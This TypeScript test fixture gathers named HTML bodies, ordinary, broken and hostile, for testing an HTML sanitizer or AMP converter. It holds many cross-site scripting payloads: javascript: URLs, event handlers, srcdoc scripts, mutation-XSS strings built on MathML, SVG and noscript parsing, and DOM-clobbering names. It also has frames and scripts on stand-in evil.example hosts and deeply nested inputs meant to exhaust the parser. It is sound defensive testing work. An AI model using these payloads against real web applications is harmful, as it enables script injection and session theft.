/** A body that somebody may send: ordinary, broken or malicious. */
export type NamedBody = { name: string; html: string };

const script = 'window.hacked=1';
const film = 'https://www.youtube.com/embed/aqz-KE-bpKQ';

const images: Record<string, string> = {
  'image without a size': '<p><img src="/media/a.jpg" alt="A"></p>',
  'image with one size': '<img src="/media/a.jpg" width="900"><img src="/media/a.jpg" height="300">',
  'image with sizes in units': '<img src="/a.jpg" width="100%" height="20em"><img src="/a.jpg" width="0" height="-1">',
  'image without a URL': '<img alt="nothing"><img src=""><img src="  ">',
  'image that reports an error': `<img src=x onerror="${script}">`,
  'image with a data URL': '<img src="data:image/svg+xml,<svg onload=alert(1)>" width="1" height="1">',
  'image that loads eagerly':
    '<img src="/a.jpg" loading="eager" decoding="sync" fetchpriority="high" width="3" height="2">',
  'picture with sources': '<picture><source srcset="/a.avif"><img src="/a.jpg" width="3" height="2"></picture>',
  'srcset with script URLs': `<img src="/a.jpg" srcset="javascript:${script} 1x, /b.jpg 2x">`,
  'invalid srcset': '<img src="/a.jpg" srcset=",,, /b 0w, /c 1x 2x, /d -3x, http:// 4q" sizes="<script>">',
  'srcset with a duplicate width': '<img src="/a.jpg" srcset="/b.jpg 100w, /c.jpg 100w,/d.jpg 1e3w">',
  'image map': '<img src="/a.jpg" usemap="#m"><map name="m"><area href="javascript:alert(1)" shape="default"></map>',
};

const players: Record<string, string> = {
  'video with sources':
    '<video controls width="640" height="360"><source src="/v.webm" type="video/webm"><source src="/v.mp4" type="video/mp4">old browser</video>',
  'video without a source': '<video controls></video><audio></audio>',
  'video over plain http': '<video src="http://films.example/v.mp4" title="A film"></video>',
  'video with a script URL': `<video poster="javascript:${script}"><source src="javascript:${script}" onerror="${script}"></video>`,
  'autoplaying audio': '<audio src="/a.mp3" autoplay loop onplay="alert(1)"></audio>',
  'tracks and fallback in a player':
    '<video src="/v.mp4"><track src="/v.vtt" kind="captions"><p>Get <a href="/x">it</a></p></video>',
  'unclosed player': '<video src="/v.mp4"><p>The rest of the article',
  'source without a player': '<source src="/v.mp4"><p><source srcset="/x">text</p>',
};

const frames: Record<string, string> = {
  'YouTube in the editor’s markup': `<div data-youtube-video=""><iframe src="${film}?start=90" title="A film" width="640" height="360" allowfullscreen=""></iframe></div>`,
  'YouTube in every URL form': [
    '//m.youtube.com/watch?v=aqz-KE-bpKQ&t=5s',
    'http://youtu.be/aqz-KE-bpKQ',
    'https://www.youtube-nocookie.com/v/aqz-KE-bpKQ',
    'https://youtube.com/shorts/aqz-KE-bpKQ',
    'https://www.youtube.com/live/aqz-KE-bpKQ',
  ]
    .map((src) => `<iframe src="${src}"></iframe>`)
    .join(''),
  playlist: '<iframe src="https://www.youtube.com/embed/videoseries?list=PL0123456789"></iframe>',
  'YouTube with an invalid id': `<iframe src="${film}%22%3E%3Cscript%3E"></iframe><iframe src="https://www.youtube.com/embed/"></iframe>`,
  'Vimeo, listed and unlisted':
    '<iframe src="https://player.vimeo.com/video/76979871"></iframe><iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e"></iframe>',
  map: '<iframe src="https://www.openstreetmap.org/export/embed.html?bbox=44.4,40.1,44.6,40.2&layer=mapnik" width="425" height="350"></iframe>',
  'frame of an unknown host':
    '<iframe src="https://evil.example/x" title="Win"></iframe><iframe src="http://evil.example/x"></iframe>',
  'frame of a look-alike host':
    '<iframe src="https://www.youtube.com.evil.example/embed/aqz-KE-bpKQ"></iframe><iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>',
  'frame with a script URL': `<iframe src="javascript:${script}"></iframe><iframe src="data:text/html,<script>${script}</script>"></iframe>`,
  'frame with srcdoc': `<iframe srcdoc="<script>parent.${script}</script>" src="https://www.openstreetmap.org/"></iframe>`,
  'frame without a URL': '<iframe></iframe><iframe src></iframe><iframe name="x"><img src=x onerror=alert(1)></iframe>',
  'unclosed frame': `<p>before<iframe src="${film}"><p>after</p>`,
  'frame in inline text': `<p>one <b>two <iframe src="${film}"></iframe> three</b> four</p>`,
  frameset: '<frameset cols="1"><frame src="javascript:alert(1)"><noframes>none</noframes></frameset>',
  'object, embed and applet':
    '<object data="/x.swf"><param name="a"><embed src="javascript:alert(1)">fallback</object><applet code="x">y</applet>',
};

const addresses: Record<string, string> = {
  'script in a link': `<a href="javascript:${script}">a</a><a href="JaVaScRiPt:${script}">b</a><a href=" javascript:${script}">c</a>`,
  'script behind control characters': `<a href="java\tscript:${script}">a</a><a href="java&#10;script:${script}">b</a><a href="&#1;javascript:${script}">c</a><a href="java\u0000script:${script}">d</a>`,
  'script behind entities':
    '<a href="&#106;&#97;vascript&colon;alert(1)">a</a><a href="javascript&#58alert(1)">b</a><a href="java&Tab;script&colon;alert(1)">c</a>',
  'unusual schemes': [
    'vbscript:x',
    'data:text/html,x',
    'blob:https://x/1',
    'file:///etc/passwd',
    'ftp://x',
    'foo:bar',
    'view-source:https://x',
    'filesystem:x',
    'about:blank',
    'intent:x',
  ]
    .map((href) => `<a href="${href}">${href}</a>`)
    .join(' '),
  'malformed URLs': [
    'https://',
    'https://[',
    'https://x y/',
    'https://x:99999/',
    'https:///x',
    'http:x',
    '//',
    '///x',
    '//[',
    'https://a..b/',
    'https://exa%mple.com/',
    '%',
    'a:b',
    '\\\\evil.example',
    '/\\evil.example',
  ]
    .map((href) => `<a href="${href}">x</a><img src="${href}">`)
    .join(''),
  'ordinary URLs': [
    'https://example.com/ё?a=1&amp;b=2#c',
    '/en/articles',
    'relative',
    '#anchor',
    '?page=2',
    'mailto:a@b.example',
    'tel:+374 10 123456',
    '//cdn.example/x',
  ]
    .map((href) => `<a href="${href}" target="_blank" rel="opener author" ping="/spy">x</a>`)
    .join(''),
  'origin of the AMP runtime in a URL':
    '<a href="https://x.example/?__amp_source_origin=1">x</a><img src="/a?__AMP_source_origin"><iframe src="https://www.openstreetmap.org/?__amp_source_origin"></iframe>',
  'base, link and meta':
    '<base href="https://evil.example/"><link rel="stylesheet" href="//evil.example/x.css"><meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>text</p>',
};

const attributes: Record<string, string> = {
  'event handlers': `<p onclick="${script}" ONMOUSEOVER=alert(1) on="tap:x.hide" onfoo=1>text</p><body onload="${script}">`,
  'inline styles with !important':
    '<p style="color:red !important;position:fixed;background:url(javascript:alert(1))">text</p>',
  'names reserved by AMP':
    '<p class="i-amphtml-x -amp-y amp-z" id="i-amphtml-a">a</p><h2 id="AMP" class="-amp-x">b</h2><h3 id="__proto__">c</h3>',
  'names for DOM clobbering':
    '<h2 id="cookie">a</h2><h3 id="location" name="getElementById">b</h3><a id="config" name="x" href="#cookie">c</a><img name="body" src="/a.jpg">',
  'duplicate id': '<h2 id="same">a</h2><h2 id="same">b</h2><p id="same">c</p>',
  'XML attributes': '<p xml:lang="ru" xmlns:x="y" xlink:href="javascript:alert(1)" x:y="z">text</p>',
  'unknown attributes':
    '<p foo bar="1" data-x="2" aria-label="3" itemprop="4" is="x-p" slot="y" nonce="z" [text]="a" @click="b" :c="d" *ngIf="e">text</p>',
  'attribute names with quotes':
    '<p "onclick=alert(1)" \'x\'=1 <b a`b=2 =c=3>text</p><a href="/x"onclick=alert(1)>y</a>',
  'attributes that break out of quotes':
    '<a href="/&quot;onclick=&quot;alert(1)" title=\'"><script>alert(1)</script>\'>x</a><img src="/a.jpg" alt="&quot;><script>alert(1)</script>">',
  'invalid numbers':
    '<ol start="abc"><li value="x">a</li></ol><ol start="-5" type="z" reversed><li value="-1">b</li></ol><table><tr><td colspan="many" rowspan="-1">c</td></tr></table>',
  'AMP templates in the text': '<p title="{{x}}">{{{y}}} <a href="{{z}}">[[w]]</a></p>',
};

const elements: Record<string, string> = {
  scripts: `<script>${script}</script><script src=//evil.example></script><SCRIPT>${script}</SCRIPT ><script>${script}`,
  'JSON-LD script':
    '<p>a</p><script type="application/ld+json">{"@context":"https://schema.org"}</script><script type="module">1</script>',
  'style element':
    '<style>@import "//evil.example";p{color:red!important}</style><p>text</p><style amp-custom>p{}</style>',
  'SVG with a script': `<svg onload="${script}"><script>${script}</script><foreignObject><iframe src="javascript:${script}"></iframe><p>x</p></foreignObject><a xlink:href="javascript:1"><text>y</text></a></svg>after`,
  'animated SVG':
    '<svg><a id="x"><rect/></a><animate xlink:href="#x" attributeName="href" values="javascript:alert(1)"/></svg>',
  MathML:
    '<math><mi>x</mi><annotation-xml encoding="text/html"><p onclick="alert(1)">y</p></annotation-xml></math><p>z</p>',
  template:
    '<template><script>alert(1)</script><p>a</p></template><template shadowrootmode="open"><slot></slot></template><p>b</p>',
  noscript: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">a</p></noscript><p>b</p>',
  form: '<form action="javascript:alert(1)"><label>Name <input name="a" autofocus onfocus="alert(1)"></label><textarea><p>x</p></textarea><select><option>1</option></select><button formaction="javascript:alert(1)">Send</button></form>',
  'custom elements':
    '<x-foo onclick="alert(1)">a<y-bar>b</y-bar></x-foo><font color="red">c</font><marquee onstart="alert(1)">d</marquee><blink>e</blink>',
  'AMP elements in the input':
    '<amp-script script="x">a</amp-script><amp-img src="/a.jpg"></amp-img><amp-youtube data-videoid="x"></amp-youtube><amp-form>b</amp-form><amp-story standalone>c</amp-story>',
  'raw text elements':
    '<xmp><img src=x onerror=alert(1)></xmp><listing>a&lt;b</listing><textarea></textarea/><img src=x onerror=alert(1)>',
  plaintext: '<p>a</p><plaintext><script>alert(1)</script>',
  'dialogs, slots and other recent elements':
    '<dialog open>a</dialog><search>b</search><details open><summary>c</summary>d</details><portal src="/x">e</portal><data value="1">f</data><meter>g</meter><canvas>h</canvas>',
  'a whole document':
    '<!doctype html><html lang="en" onclick="x"><head><title>t</title><meta charset="x"></head><body class="b" onload="x"><main><h1>One</h1><p>two</p></main></body></html>',
  'every element of an article':
    '<h2 id="part">Part</h2><p lang="hy" dir="ltr">A <strong>b</strong> <em>c</em> <s>d</s> <u>e</u> H<sub>2</sub>O <mark>f</mark> <code>g</code><br>h</p><blockquote><p>i</p><cite>j</cite></blockquote><ol start="3" reversed><li><p>k</p></li></ol><hr><pre><code class="language-c++">l &lt; m</code></pre><figure><img src="/a.jpg" alt="n" width="3" height="2"><figcaption>o</figcaption></figure>',
};

const structure: Record<string, string> = {
  'empty input': '',
  'plain text': 'Just a <line & a half',
  'table with all its elements':
    '<table><caption>a</caption><colgroup><col span="2"></colgroup><thead><tr><th scope="col" colspan="2">b</th></tr></thead><tbody><tr><td rowspan="2">c</td></tr></tbody><tfoot><tr><td>d</td></tr></tfoot></table>',
  'nested tables':
    '<table><tr><td>a<table><tr><td>b<table><tbody><tr><td>c</table></td></tr></table>d</td></tr></table>',
  'text between the cells':
    '<table>a<tr>b<td>c</td>d<p>e</p></tr><img src="/a.jpg"><script>alert(1)</script></table><td>f</td><tr>g',
  'misnested lists': '<ul>a<li>b<li>c<ul><ol><li>d</ul></li>e</ul><li>f<dd>g<dt>h',
  'line breaks at the beginning of code': '<pre>\n\na</pre><pre>&#10;<code>\nb</code></pre><pre><a>\n</a>\nc</pre>',
  'a caption between cells': '<figure><table><figcaption>a</table><ul><figcaption>b</ul></figure>',
  'broken nesting':
    '<p>a<b>b<i>c</b>d</i>e</p></div></span><p>f<div>g<p>h</div>i</p><a href="/1">j<a href="/2">k</a></a><h2>l<h3>m</h2>',
  'unclosed tags': '<p>a<b>b<ul><li>c<blockquote>d<table><tr><td>e<figure>f<pre>g<code>h',
  'a truncated tag': '<p>a</p><img src="/a.jpg" onerror="alert(1)',
  'comments and conditional comments':
    '<!-- a --><!--[if IE]><script>alert(1)</script><![endif]--><!--> <img src=x onerror=alert(1)> --><!--!> b --!><p>c</p><?php d ?><!bogus>',
  CDATA: '<![CDATA[<script>alert(1)</script>]]><p>a</p><svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  'NUL and control characters':
    '<p>a\u0000b\u0001\u0008\u000b\u007f\u0085c&#0;&#1;&#x80;</p><scr\u0000ipt>alert(1)</scr\u0000ipt><a href="/\u0000x">d</a>',
  'lone surrogates': '<p title="\ud800">\udc00 \ufffe \uffff &#xd800;</p>',
  'direction controls': '<p dir="RTL">\u202eevil\u202c \u2066x\u2069 \u200f<bdo dir="rtl" lang="!!">y</bdo></p>',
  entities:
    '<p>&amp;lt;b&gt; &lt;script&gt;alert(1)&lt;/script&gt; &nbsp;&shy;&ZeroWidthSpace;&notanentity; &#x1F600; &amp;amp; "quotes" \'x\'</p>',
  'thousands of nested blocks': `${'<div>'.repeat(5000)}deep${'</div>'.repeat(5000)}`,
  'thousands of nested tables': '<table><tr><td>'.repeat(2000),
  'thousands of unclosed inline elements': '<b><i><p>x'.repeat(2000),
  'a text of 100 KB': '<p>Новость <b>дня</b> &amp; ночи.</p>'.repeat(2800),
  'a flood of partial tags': `${'<'.repeat(5000)}${'</'.repeat(5000)}${'<a '.repeat(5000)}`,
};

const pageOfCard = 'https://paper.example/story';
const cards: Record<string, string> = {
  'card as the editor writes it': `<figure data-link-card=""><a href="${pageOfCard}" rel="noopener"><img src="/media/a.jpg" alt="" width="3" height="2"><strong>Bridge &amp; road</strong> <span>About &lt;b&gt;</span> <cite>Paper</cite></a></figure>`,
  'card with a script URL': `<figure data-link-card><a href="javascript:${script}"><strong>T</strong></a></figure>`,
  'card with a data URL': `<figure data-link-card><a href="data:text/html,<script>${script}</script>"><img src="data:image/svg+xml,<svg onload=alert(1)>"><strong>T</strong></a></figure>`,
  'card with an address that the sanitizer refuses': `<figure data-link-card><a href="https://&#1;javascript:alert(1)"><img src="x:y"><strong>T</strong></a></figure>`,
  'card with handlers and styles': `<figure data-link-card="${script}" onclick="${script}" style="position:fixed" class="x" id="y"><a href="${pageOfCard}" onclick="${script}" target="_top"><img src="/a.jpg" onerror="${script}" alt="x" style="width:9999px"><strong onclick="${script}">T</strong></a></figure>`,
  'card with scripts in its texts': `<figure data-link-card><a href="${pageOfCard}"><strong>T<script>${script}</script><style>*{}</style></strong><span><iframe src="${film}">x</iframe><svg onload="${script}"><title>y</title></svg></span></a></figure>`,
  'card with blocks, tables and players': `<figure data-link-card><table><tr><td><a href="${pageOfCard}"><h2><strong>T</strong></h2></a><td>two</table><video src="/v.mp4">old</video><ul><li>three</ul></figure>`,
  'card in a card': `<figure data-link-card><a href="${pageOfCard}"><strong>T</strong><figure data-link-card><a href="/b"><strong>U</strong></a></figure></a></figure>`,
  'card in a link, a heading and a list': `<a href="/x">a <figure data-link-card><a href="${pageOfCard}"><strong>T</strong></a></figure> b</a><h2>c<figure data-link-card><a href="${pageOfCard}"><strong>T</strong></a></figure></h2><ul><figure data-link-card><a href="${pageOfCard}"><strong>T</strong></a></figure></ul>`,
  'card in a table and in a caption': `<table><caption><figure data-link-card><a href="${pageOfCard}"><strong>T</strong></a></figure></caption><figure data-link-card><a href="${pageOfCard}"><strong>T</strong></a></figure><tr><td>x</table>`,
  'card without a title, an address or an end': `<figure data-link-card><a href="${pageOfCard}">no title</a></figure><figure data-link-card><strong>no address</strong></figure><figure data-link-card></figure><figure data-link-card><a href="${pageOfCard}"></a></figure><figure data-link-card><a href="${pageOfCard}"><strong>no end`,
  'card below too many blocks': `${'<div>'.repeat(80)}<figure data-link-card><a href="${pageOfCard}"><strong>T</strong></a></figure>`,
  'card with control characters and lone surrogates': `<figure data-link-card><a href="${pageOfCard}\u0001\ud800"><strong>\u202eT\u0000\udc00</strong><cite>\u0085</cite></a></figure>`,
};

const mutations: Record<string, string> = {
  'mutation by MathML and style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  'mutation by nested forms': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  'mutation by SVG and style': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  'mutation by noscript': '<p><noscript></p><img src=x onerror=alert(1)></noscript>',
  'mutation by the title of an SVG':
    '<svg><desc><title><textarea></svg><img src=x onerror=alert(1)></textarea></title>',
  'mutation by a select': '<select><style></select><img src=x onerror=alert(1)></style></select><select><option><p>a',
  'mutation by xmp in SVG': '<svg><xmp><p title="</xmp></svg><img src=x onerror=alert(1)>">',
  'mutation by a paragraph in a table': '<table><a href="/x"><p><table></a><img src=x onerror=alert(1)></table>',
  'mutation by a comment in a frame': '<iframe><!--</iframe><img src=x onerror=alert(1)>--></iframe>',
  'mutation by backticks': '<img src="/a.jpg" alt="``onload=alert(1)"><p title=`a>b`c>d</p>',
};

/** Bodies that a sanitizer or converter must survive, each named for the test report. */
export const hostileBodies: readonly NamedBody[] = [
  images,
  players,
  frames,
  addresses,
  attributes,
  elements,
  structure,
  cards,
  mutations,
]
  .flatMap((group) => Object.entries(group))
  .map(([name, html]) => ({ name, html }));
